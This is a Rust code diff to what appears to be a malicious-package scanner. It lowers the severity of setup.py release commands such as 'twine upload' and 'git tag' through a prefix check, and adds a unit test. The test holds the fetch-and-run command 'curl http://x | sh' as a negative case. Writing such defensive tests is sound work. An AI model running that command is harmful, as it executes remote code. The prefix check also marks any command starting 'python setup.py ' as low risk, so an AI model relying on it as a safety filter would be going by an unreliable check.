@@ -23,12 +23,16 @@ fn check(rule: &Rule, pkg: &PackageFacts, out: &mut Vec<Finding>) {
                 .next()
                 .map(|t| format!(": `{}`", malpi_python::cut(&t, 120)))
                 .unwrap_or_default();
-            let severity = by_trigger(
-                call.trigger,
-                Severity::Medium,
-                Severity::Low,
-                Severity::Info,
-            );
+            let severity = if call.texts().next().is_some_and(|t| is_release_step(&t)) {
+                Severity::Low
+            } else {
+                by_trigger(
+                    call.trigger,
+                    Severity::Medium,
+                    Severity::Low,
+                    Severity::Info,
+                )
+            };
             out.push(
                 rule.at(
                     file,
@@ -44,5 +48,32 @@ fn check(rule: &Rule, pkg: &PackageFacts, out: &mut Vec<Finding>) {
                 .severity(severity),
             );
         }
+    }
+}
+
+/// The maintainer's release steps that setup.py scripts carry behind a `publish` argument
+/// (`python setup.py sdist`, `twine upload dist/*`, `git tag`): they build or upload the
+/// project itself and run only when its author asks, so they weigh as little as a build step.
+fn is_release_step(command: &str) -> bool {
+    let command = command.trim_start();
+    [
+        "python setup.py ",
+        "python3 setup.py ",
+        "twine upload ",
+        "git tag ",
+        "git push --tags",
+    ]
+    .iter()
+    .any(|p| command.starts_with(p))
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn release_steps_are_told_from_other_commands() {
+        assert!(super::is_release_step("python setup.py sdist bdist_wheel"));
+        assert!(super::is_release_step("twine upload dist/*"));
+        assert!(!super::is_release_step("python -c 'import os'"));
+        assert!(!super::is_release_step("curl http://x | sh"));
     }
 }
